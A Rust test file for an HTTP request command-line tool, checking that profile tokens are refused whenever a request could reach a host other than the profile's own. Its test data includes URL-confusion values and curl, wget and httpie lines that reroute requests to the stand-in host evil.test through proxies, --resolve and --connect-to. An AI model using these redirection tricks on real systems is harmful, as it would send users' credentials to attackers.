//! Where the secrets of a profile and of a file of defaults go: home alone, whatever way out is taken (decision 29).

#![cfg(unix)]
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use crate::command::{FORMATS, Place};

/// A command writes the token of these profiles. The name `x-trace` is not that of a secret.
const COMMANDS: &str = r#"
[profile.a]
baseUrl = "https://a.test/api"
[profile.a.headers]
authorization = { command = ["printf", "s3cret"], prefix = "token " }

[profile.trace]
baseUrl = "https://a.test/api"
[profile.trace.headers]
x-trace = { command = ["printf", "s3cret"] }

[profile.six]
baseUrl = "https://[::1]:8443"
[profile.six.headers]
authorization = { command = ["printf", "s3cret"] }

[profile.github.headers]
authorization = { command = ["printf", "s3cret"] }

[profile.shop]
api = "shop.api"
[profile.shop.headers]
authorization = { command = ["printf", "s3cret"] }

[profile.joined]
baseUrl = "https://shop.test"
api = "shop.api"
[profile.joined.headers]
cookie = { command = ["printf", "s3cret"], prefix = "sid=" }

[profile.described]
baseUrl = "https://shop.test"
api = "shop.api"
[profile.described.headers]
authorization = { command = ["printf", "s3cret"] }
"#;

const SHOP: &str = "endpoint-catalogue 2\n@title Shop\n@server https://shop.test\n\
    GET /carts carts/list @https://carts.test ~session_token\nGET /hooks hooks/list @https://hooks.test\n\
    GET /orders orders/list ?page:integer\n";

fn place() -> Place {
    let place = Place::new();
    place.profiles(COMMANDS);
    place.file("shop.api", SHOP);
    place.file("base.json", r#"{"baseUrl": "https://evil.test"}"#);
    place.file("url.json", r#"{"method": "GET", "url": "https://evil.test/x"}"#);
    place
}

/// Requests that go elsewhere, as words after the profile.
const ELSEWHERE: [&[&str]; 27] = [
    &["--profile", "a", "GET", "https://evil.test/x"],
    &["--profile", "a", "GET https://evil.test/x"],
    &["--profile", "a", "http://a.test/x"],
    &["--profile", "a", "HTTP://A.TEST/x"],
    &["--profile", "a", "http://a.test:443/x"],
    &["--profile", "a", "https://a.test:80/x"],
    &["--profile", "a", "https://a.test:8443/x"],
    &["--profile", "a", "https://a.test./x"],
    &["--profile", "a", "https://a.test.evil.test/x"],
    &["--profile", "a", "https://{h}.test/x", "h=evil"],
    &["--profile", "a", "https://a{h}.test/x", "h=b"],
    &["--profile", "a", "https://[::1]/x"],
    &["--profile", "a", "https://evil.test?x=https://a.test/"],
    &["--profile", "a", "https://evil.test#https://a.test/"],
    &["--profile", "a", "/x", "--base-url", "https://evil.test"],
    &["--profile", "a", "/x", "--defaults", "base.json"],
    &["--profile", "a", "GET", "--defaults", "url.json"],
    &["--profile", "a", "/x", "--input", "base.json"],
    &["--profile", "a", "--input", "url.json"],
    &["--profile", "a", "curl", "https://evil.test/x"],
    &["--profile", "a", "curl", "evil.test/x"],
    &["--profile", "a", "http", "evil.test/x"],
    &["--profile", "trace", "https://evil.test/x"],
    &["--profile", "six", "https://[::2]:8443/x"],
    &["--profile", "six", "https://[::1]/x"],
    &["--profile", "shop", "curl", "https://api.github.com/user"],
    &["--profile", "shop", "curl", "https://hooks.test/hooks"],
];

#[test]
fn a_token_of_a_command_goes_nowhere_else() {
    let place = place();
    let ways = [
        &[][..],
        &["--merge"],
        &["--explain"],
        &["--explain", "-o", "json"],
        &["--redact"],
    ];
    for words in ELSEWHERE {
        for way in ways {
            // Our flags come before the name of another program.
            let line = [&words[..2], way, &words[2..]].concat();
            let ran = place.run(&line);
            assert_eq!((ran.status, &*ran.stdout), (Some(1), ""), "{line:?}: {}", ran.stderr);
            assert!(
                ran.stderr.contains("error: foreign-authority: "),
                "{line:?}: {}",
                ran.stderr
            );
            assert!(!ran.stderr.contains("s3cret"), "{line:?}: {}", ran.stderr);
        }
    }
}

#[test]
fn no_format_takes_it_elsewhere() {
    let place = place();
    for format in FORMATS {
        let ran = place.run(&["--profile", "a", "-o", format, "https://evil.test/x"]);
        assert_eq!((ran.status, &*ran.stdout), (Some(1), ""), "{format}: {}", ran.stderr);
        assert!(!ran.stderr.contains("s3cret"), "{format}: {}", ran.stderr);
    }
}

#[test]
fn code_names_no_other_base_url_beside_it() {
    let place = place();
    let words = [
        "--profile",
        "a",
        "-o",
        "rust",
        "--base-url",
        "https://evil.test",
        "https://a.test/x",
    ];
    let ran = place.run(&words);
    assert!(
        ran.stdout.contains("s3cret") && !ran.stdout.contains("evil"),
        "{}{}",
        ran.stdout,
        ran.stderr
    );
}

/// The servers of a catalogue and of its operations are home, whether a profile has a base URL or not.
#[test]
fn d29_the_servers_of_a_catalogue_are_home() {
    let place = place();
    let calls: [(&str, &[&str]); 7] = [
        ("shop.test", &["--profile", "shop", "orders/list"]),
        (
            "shop.test",
            &["--profile", "github", "--api", "shop.api", "orders/list"],
        ),
        ("shop.test", &["--profile", "described", "orders/list"]),
        ("hooks.test", &["--profile", "shop", "hooks/list"]),
        ("hooks.test", &["--profile", "described", "hooks/list"]),
        // The token is within a longer header: its cookie is joined with that of the call.
        ("carts.test", &["--profile", "joined", "carts/list", "session_token=1"]),
        ("shop.test", &["--profile", "shop", "curl", "https://shop.test/x"]),
    ];
    for (host, call) in calls {
        let ran = place.run(call);
        assert_eq!(ran.status, Some(0), "{call:?}: {}", ran.stderr);
        assert!(
            ran.stdout.contains("s3cret") && ran.stdout.contains(host),
            "{call:?}: {}",
            ran.stdout
        );
    }
    let elsewhere: [&[&str]; 3] = [
        &["--profile", "shop", "--base-url", "https://evil.test", "orders/list"],
        &[
            "--profile",
            "described",
            "--base-url",
            "https://evil.test",
            "hooks/list",
        ],
        // Without its catalogue, a profile without a base URL is GitHub's.
        &["--profile", "github", "https://shop.test/orders"],
    ];
    for call in elsewhere {
        let ran = place.run(call);
        assert_eq!((ran.status, &*ran.stdout), (Some(1), ""), "{call:?}");
        assert!(ran.error().contains("foreign-authority"), "{call:?}: {}", ran.stderr);
    }
}

#[test]
fn a_line_of_gh_takes_it_nowhere_else() {
    let place = place();
    for words in [
        &["--hostname", "evil.test", "x"][..],
        &["https://evil.test/x"],
        &["--hostname", "evil.test", "graphql", "-f", "query=x"],
    ] {
        for way in [&[][..], &["--merge"], &["--explain"], &["-o", "curl"]] {
            let line = [&["--profile", "a"], way, &["gh", "api"], words].concat();
            let ran = place.run(&line);
            assert_eq!((ran.status, &*ran.stdout), (Some(1), ""), "{line:?}");
            assert!(ran.error().contains("foreign-authority"), "{line:?}: {}", ran.stderr);
        }
    }
}

#[test]
fn options_on_stdin_take_it_nowhere_else() {
    let place = place();
    for options in [
        r#"{"method": "GET", "url": "https://evil.test/x"}"#,
        r#"{"method": "GET", "url": "/x", "baseUrl": "https://evil.test"}"#,
        r#"{"method": "GET", "url": "HTTPS://EVIL.TEST/x"}"#,
        r#"{"method": "GET", "url": "https://evil.test/x", "baseUrl": "https://a.test"}"#,
    ] {
        for way in [&[][..], &["--merge"], &["--explain"]] {
            let ran = place.run_with(&[&["--profile", "a", "--input", "-"], way].concat(), options.as_bytes());
            assert_eq!((ran.status, &*ran.stdout), (Some(1), ""), "{options} {way:?}");
            assert!(ran.error().contains("foreign-authority"), "{options}: {}", ran.stderr);
        }
    }
}

#[test]
fn merged_options_that_could_go_elsewhere_are_an_error() {
    let place = place();
    for words in [
        // It is sent to a.test, and another base URL is beside it.
        &["--base-url", "https://evil.test", "https://a.test/x"][..],
        &["--base-url", "https://evil.test"],
        &["https://{h}.test/x"],
        &["https://a.test{+x}"],
        &["https://a.test{/x}.evil.test/"],
        &["https://a.test@evil.test/x"],
        &["https://a.test\\@evil.test/x"],
        // Some clients take it for a URL of its own.
        &["https:{x}"],
        &["//evil.test/x"],
        &["/\\evil.test/x"],
        // A value is not in the URL yet.
        &["{+x}", "x=https://evil.test"],
        &["{x}://evil.test", "x=https"],
    ] {
        let ran = place.run(&[&["--profile", "a", "--merge"], words].concat());
        assert!(
            ran.status != Some(0) && ran.stdout.is_empty(),
            "{words:?}: {}",
            ran.stdout
        );
        assert!(!ran.stderr.contains("s3cret"), "{words:?}: {}", ran.stderr);
    }
}

#[test]
fn it_goes_to_its_base_url_by_every_way() {
    let place = place();
    for words in [
        &["--profile", "a", "/x"][..],
        &["--profile", "a", "https://A.test:443/x"],
        &["--profile", "a", "https://{h}.test/x", "h=a"],
        &["--profile", "a", "--base-url", "HTTPS://a.TEST:443/other", "/x"],
        &["--profile", "six", "https://[0:0:0:0:0:0:0:1]:8443/x"],
        &["--profile", "a", "--merge", "https://a.test/{x}"],
        &["--profile", "a", "--merge", "/{x}"],
        &["--profile", "a", "--merge"],
        &["--profile", "trace", "--merge", "https://a.test"],
        &["--profile", "github", "/user"],
        &["--profile", "described", "orders/list"],
        &["--profile", "described", "--merge", "orders/list"],
        &["--profile", "a", "curl", "https://a.test/x"],
        &["--profile", "a", "http", "https://a.test/x"],
    ] {
        let ran = place.run(words);
        assert_eq!((ran.status, &*ran.stderr), (Some(0), ""), "{words:?}");
        assert!(ran.stdout.contains("s3cret"), "{words:?}: {}", ran.stdout);
    }
    for words in [
        &["--profile", "trace", "--explain", "/x"][..],
        &["--profile", "trace", "--redact", "/x"],
        &["--profile", "trace", "--redact", "--merge", "/x"],
        &["--profile", "trace", "--redact", "-o", "curl", "/x"],
    ] {
        let ran = place.run(words);
        assert!(
            ran.status == Some(0) && !ran.stdout.contains("s3cret"),
            "{words:?}: {}",
            ran.stdout
        );
    }
}

#[test]
fn no_line_of_a_batch_takes_it_elsewhere() {
    let place = place();
    let elsewhere = [
        r#"{"route":"GET https://evil.test/x"}"#,
        r#"{"route":"GET /x","options":{"baseUrl":"https://evil.test"}}"#,
        r#"{"route":"GET /x","defaults":[{"baseUrl":"https://evil.test"}]}"#,
        r#"{"options":{"method":"GET","url":"https://evil.test/x"}}"#,
        r#"{"defaults":[{"method":"GET","url":"https://evil.test/x"}]}"#,
        r#"{"op":"merge","route":"GET https://evil.test/x"}"#,
        r#"{"op":"merge","route":"GET https://EVIL.test:443/x"}"#,
        r#"{"op":"merge","route":"GET https://{h}.test/x"}"#,
        r#"{"op":"merge","options":{"url":"https://evil.test/x"}}"#,
        r#"{"op":"merge","options":{"baseUrl":"https://evil.test"}}"#,
        r#"{"op":"merge","options":{"baseUrl":null}}"#,
        r#"{"op":"merge","defaults":[{"baseUrl":"https://evil.test"}]}"#,
        r#"{"op":"defaults","defaults":[{"baseUrl":"https://evil.test"}]}"#,
        r#"{"op":"defaults","defaults":[{"baseUrl":"http://a.test"}]}"#,
        r#"{"op":"defaults","defaults":[{"url":"https://evil.test"}]}"#,
        r#"{"op":"defaults","defaults":[{"baseUrl":null}]}"#,
    ];
    let home = [
        (r#"{"route":"GET https://a.test/x"}"#, true),
        (r#"{"op":"merge","route":"GET /x"}"#, true),
        (r#"{"op":"defaults"}"#, true),
        (
            r#"{"op":"defaults","defaults":[{"baseUrl":"https://a.test:443"}]}"#,
            true,
        ),
        (
            r#"{"op":"parse","options":{"method":"GET","url":"https://evil.test/x"}}"#,
            false,
        ),
        (
            r#"{"op":"merge","options":{"headers":null,"url":"https://evil.test"}}"#,
            false,
        ),
        (
            r#"{"op":"merge","options":{"headers":{"Authorization":"mine"},"url":"https://evil.test"}}"#,
            false,
        ),
    ];
    for flags in [&[][..], &["--redact"], &["--raw"], &["-o", "curl"]] {
        let input = format!("{}\n", elsewhere.join("\n"));
        let ran = place.run_with(&[&["batch", "--profile", "a"], flags].concat(), input.as_bytes());
        let all = format!("{}{}", ran.stdout, ran.stderr);
        assert_eq!((ran.status, all.lines().count()), (Some(1), elsewhere.len()), "{all}");
        for (line, answer) in elsewhere.iter().zip(all.lines()) {
            let refusals = ["foreign-authority", "invalid-base-url", "`baseUrl` must be a text"];
            let is_refused = refusals.iter().any(|refusal| answer.contains(refusal));
            assert!(is_refused && !answer.contains("s3cret"), "{line}: {answer}");
        }
    }
    for (line, is_sent) in home {
        let ran = place.run_with(&["batch", "--profile", "a"], line.as_bytes());
        assert_eq!(ran.status, Some(0), "{line}: {}", ran.stdout);
        assert_eq!(ran.stdout.contains("s3cret"), is_sent, "{line}: {}", ran.stdout);
    }
    for line in [
        r#"{"route":"orders/list"}"#,
        r#"{"op":"merge","route":"hooks/list"}"#,
        r#"{"op":"defaults"}"#,
    ] {
        let ran = place.run_with(&["batch", "--profile", "shop"], line.as_bytes());
        assert!(
            ran.status == Some(0) && ran.stdout.contains("s3cret"),
            "{line}: {}",
            ran.stdout
        );
    }
}

/// Lines to `https://a.test`, or `http://plain.test`, that another host may read. Each has the option that lets it.
const OTHER_WAYS: [(&str, &str); 19] = [
    (
        "curl -k --connect-to a.test:443:evil.test:443 https://a.test/x",
        "--connect-to",
    ),
    ("curl --connect-to ::evil.test: https://a.test/x", "--connect-to"),
    ("curl -k --resolve a.test:443:6.6.6.6 https://a.test/x", "--resolve"),
    ("curl --unix-socket /tmp/s https://a.test/x", "--unix-socket"),
    (
        "curl --abstract-unix-socket s https://a.test/x",
        "--abstract-unix-socket",
    ),
    ("curl --doh-url https://evil.test https://a.test/x", "--doh-url"),
    ("curl --dns-servers 6.6.6.6 https://a.test/x", "--dns-servers"),
    ("curl --preproxy socks5://evil.test https://a.test/x", "--preproxy"),
    ("curl --proxy1.0 evil.test https://a.test/x", "--proxy1.0"),
    ("curl -k -x evil.test https://a.test/x", "--proxy"),
    ("curl -kx evil.test HTTPS://a.test/x", "--proxy"),
    ("curl -k --socks5-hostname evil.test https://a.test/x", "--proxy"),
    ("curl --cacert evil.pem -x evil.test https://a.test/x", "--proxy"),
    (
        "curl --resolve a.test:443:6.6.6.6 https://a.test/x -H 'x-a: b'",
        "--resolve",
    ),
    ("curl -x evil.test http://plain.test/x", "--proxy"),
    ("curl https://evil.test https://a.test/x -k -x evil.test", "--proxy"),
    (
        "http --verify=no --proxy https:http://evil.test https://a.test/x",
        "--proxy",
    ),
    (
        "wget --no-check-certificate -e https_proxy=evil.test https://a.test/x",
        "--proxy",
    ),
    ("```sh\ncurl -k -x evil.test https://a.test/x\n```", "--proxy"),
];

/// Lines that no other host may read, and whether the token is in them.
const OWN_WAYS: [(&str, bool); 8] = [
    ("curl -x proxy.test https://a.test/x", true),
    ("curl -k https://a.test/x", true),
    ("curl --cacert ca.pem --cert c.pem https://a.test/x", true),
    ("curl -k -x '' https://a.test/x", true),
    ("http --proxy https:http://proxy.test https://a.test/x", true),
    ("curl -k -x proxy.test https://a.test/x -H 'authorization: mine'", false),
    ("curl --connect-to ::b.test: https://a.test/x -u mona:own", false),
    ("curl --digest -u mona:own https://a.test/x", false),
];

#[test]
fn no_line_takes_it_another_way() {
    let place = Place::new().env("TOKEN", "s3cret");
    place.profiles(
        "[profile.bound]\nbaseUrl = \"https://a.test/api\"\n[profile.bound.headers]\n\
         authorization = { command = [\"printf\", \"s3cret\"] }\n\
         [profile.variable]\nbaseUrl = \"https://a.test\"\n[profile.variable.headers]\nauthorization = { env = \"TOKEN\" }\n\
         [profile.plain]\nbaseUrl = \"http://plain.test\"\n[profile.plain.headers]\n\
         authorization = { command = [\"printf\", \"s3cret\"] }\n",
    );
    for (line, option) in OTHER_WAYS {
        let profiles = match line.contains("plain.test") {
            true => &["plain"][..],
            false => &["bound", "variable"],
        };
        for profile in profiles {
            for format in ["curl", "python"] {
                let ran = place.run_with(&["--profile", profile, "paste", "-o", format], line.as_bytes());
                assert!(!ran.stdout.contains("s3cret"), "{line}: {}", ran.stdout);
                assert!(!ran.stderr.contains("s3cret"), "{line}: {}", ran.stderr);
                // Only a line of curl can express the others.
                if format != "python" || option == "--proxy" {
                    let error = format!("another way than its URL says, by {option}");
                    assert!(
                        ran.stderr.contains("error: foreign-authority: "),
                        "{line}: {}",
                        ran.stderr
                    );
                    assert!(
                        ran.stderr.contains(&error) && ran.status == Some(1),
                        "{line}: {}",
                        ran.stderr
                    );
                }
            }
        }
    }
    for (line, is_sent) in OWN_WAYS {
        for profile in ["bound", "variable"] {
            let ran = place.run_with(&["--profile", profile, "paste", "-o", "curl"], line.as_bytes());
            assert_eq!(ran.status, Some(0), "{line}: {}", ran.stderr);
            assert_eq!(ran.stdout.contains("s3cret"), is_sent, "{line}: {}", ran.stdout);
        }
    }
    for line in [
        "curl -H 'Host: evil.example' https://a.test/x",
        "curl -H 'HOST: a.test:8443' https://a.test/x",
        "GET https://a.test/x HTTP/1.1\nHost: evil.example\n\n",
    ] {
        let ran = place.run_with(&["--profile", "bound", "paste", "-o", "http"], line.as_bytes());
        let is_refused = ran.stderr.contains("error: foreign-authority: ");
        assert!(
            is_refused && ran.stdout.is_empty(),
            "{line}: {}{}",
            ran.stdout,
            ran.stderr
        );
    }
    let own = place.run(&["--profile", "bound", "GET", "/x", "Host:a.test", "-o", "http"]);
    assert!(own.stdout.contains("s3cret"), "{}", own.stderr);
    let merged = place.run(&["--profile", "bound", "--merge", "GET", "/x", "Host:evil.example"]);
    assert!(merged.stdout.is_empty(), "{}", merged.stdout);
    let words = [
        "--profile",
        "bound",
        "-o",
        "curl",
        "curl",
        "--resolve",
        "a.test:443:6.6.6.6",
        "https://a.test/x",
    ];
    let ran = place.run(&words);
    assert_eq!((ran.status, &*ran.stdout), (Some(1), ""));
    assert_eq!(
        ran.stderr,
        "error: foreign-authority: `authorization` of profile `bound` is for its base URL alone, and the request goes another way than \
         its URL says, by --resolve\nhelp: take --resolve out of the line, or leave the profile out\nhelp: `authorization:…` gives \
         another value, `authorization:` takes it away\n"
    );
}

/// The environment holds the token of these profiles, and one is a parameter.
const OTHERS: &str = r#"
[profile.both]
baseUrl = "https://a.test/api"
[profile.both.parameters]
access_token = "s3cret"
per_page = 5
[profile.both.headers]
authorization = { env = "TOKEN" }

[profile.parameter]
baseUrl = "https://a.test/api"
redact = ["pin", "-session"]
[profile.parameter.parameters]
pin = "s3cret"
session = "no secret"

[profile.shop]
api = "shop.api"
[profile.shop.headers]
authorization = { env = "TOKEN" }

[profile.cookie]
api = "shop.api"
[profile.cookie.parameters]
session_token = "s3cret"

[profile.nested]
baseUrl = "https://a.test"
[profile.nested.parameters.auth]
token = "s3cret"
"#;

fn others() -> Place {
    let place = Place::new().env("TOKEN", "s3cret");
    let path = place.profiles(OTHERS);
    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    place.file("shop.api", SHOP);
    place
}

#[test]
fn d29_every_secret_of_a_profile_stays_home() {
    let place = others();
    let cases: [(&[&str], &str); 22] = [
        (&["--profile", "nested", "POST", "https://a.test/x"], ""),
        (&["--profile", "nested", "POST", "https://b.test/x"], "auth"),
        (
            &["--profile", "nested", "POST", "https://b.test/x", "auth[a]=b"],
            "auth",
        ),
        (&["--profile", "nested", "POST", "https://b.test/x", "auth=b"], ""),
        (&["--profile", "both", "/x"], ""),
        (&["--profile", "both", "--merge", "/x"], ""),
        (&["--profile", "both", "https://b.test/x"], "access_token"),
        (&["--profile", "both", "POST", "https://b.test/x"], "access_token"),
        (&["--profile", "both", "https://b.test/{access_token}"], "access_token"),
        (&["--profile", "both", "--merge", "https://b.test/x"], "access_token"),
        (&["--profile", "both", "--explain", "https://b.test/x"], "access_token"),
        (
            &["--profile", "both", "https://b.test/x", "Authorization:"],
            "access_token",
        ),
        (
            &["--profile", "both", "https://b.test/x", "access_token=mine"],
            "authorization",
        ),
        (
            &["--profile", "both", "https://b.test/x", "access_token:=null"],
            "authorization",
        ),
        (
            &[
                "--profile",
                "both",
                "https://b.test/x",
                "access_token=mine",
                "Authorization:mine",
            ],
            "",
        ),
        (&["--profile", "both", "curl", "https://b.test/x"], "authorization"),
        // A default counts as sent, also beside a body that is sent in its place.
        (
            &["--profile", "both", "POST", "https://b.test/x", "--data", "x"],
            "access_token",
        ),
        (&["--profile", "parameter", "https://b.test/x"], "pin"),
        (&["--profile", "parameter", "https://b.test/x", "pin=1"], ""),
        (&["--profile", "shop", "orders/list"], ""),
        (&["--profile", "shop", "hooks/list"], ""),
        (&["--profile", "cookie", "carts/list"], ""),
    ];
    for (words, stray) in cases {
        let ran = place.run(words);
        if stray.is_empty() {
            assert_eq!((ran.status, &*ran.stderr), (Some(0), ""), "{words:?}");
            continue;
        }
        let error = format!("error: foreign-authority: `{stray}` of profile ");
        assert_eq!((ran.status, &*ran.stdout), (Some(1), ""), "{words:?}");
        assert!(ran.stderr.starts_with(&error), "{words:?}: {}", ran.stderr);
        assert!(!ran.stderr.contains("s3cret"), "{words:?}: {}", ran.stderr);
    }
}

/// What a line of JSON has itself goes where the line goes.
#[test]
fn d29_a_file_of_defaults_stays_home_and_a_line_does_not() {
    let place = Place::new();
    let token = r#"{"headers": {"authorization": "token s3cret"}, "page": 2}"#;
    place.file("token.json", token);
    place.file(
        "own.json",
        r#"{"baseUrl": "https://a.test", "headers": {"authorization": "token s3cret"}, "api_key": "s3cret"}"#,
    );
    let cases: [(&[&str], bool); 8] = [
        (&["--defaults", "token.json", "/user"], true),
        (&["--defaults", "token.json", "https://api.github.com/user"], true),
        (&["--defaults", "token.json", "https://evil.test/x"], false),
        (
            &["--defaults", "token.json", "--base-url", "https://evil.test", "/x"],
            false,
        ),
        (&["--defaults", "own.json", "/x"], true),
        (&["--defaults", "own.json", "https://a.test/x"], true),
        (&["--defaults", "own.json", "https://api.github.com/x"], false),
        (&["--defaults", "own.json", "--merge", "https://evil.test/x"], false),
    ];
    for (words, is_home) in cases {
        let ran = place.run(words);
        assert_eq!(ran.status, Some(i32::from(!is_home)), "{words:?}: {}", ran.stderr);
        assert_eq!(ran.stdout.contains("s3cret"), is_home, "{words:?}: {}", ran.stdout);
        assert_eq!(
            ran.stderr.contains("error: foreign-authority: "),
            !is_home,
            "{words:?}: {}",
            ran.stderr
        );
        assert!(!ran.stderr.contains("s3cret"), "{words:?}: {}", ran.stderr);
    }
    let lines = [
        (format!(r#"{{"route":"GET https://b.test/x","options":{token}}}"#), 0),
        (format!(r#"{{"route":"GET https://b.test/x","defaults":[{token}]}}"#), 0),
    ];
    for (line, status) in lines {
        let ran = place.run_with(&["batch"], line.as_bytes());
        assert_eq!(ran.status, Some(status), "{line}: {}", ran.stdout);
        assert!(ran.stdout.contains("s3cret"), "{line}: {}", ran.stdout);
    }
    let ran = place.run_with(
        &["batch", "--defaults", "token.json"],
        br#"{"route":"GET https://b.test/x"}"#,
    );
    assert!(
        ran.stdout.contains("foreign-authority") && !ran.stdout.contains("s3cret"),
        "{}",
        ran.stdout
    );
}
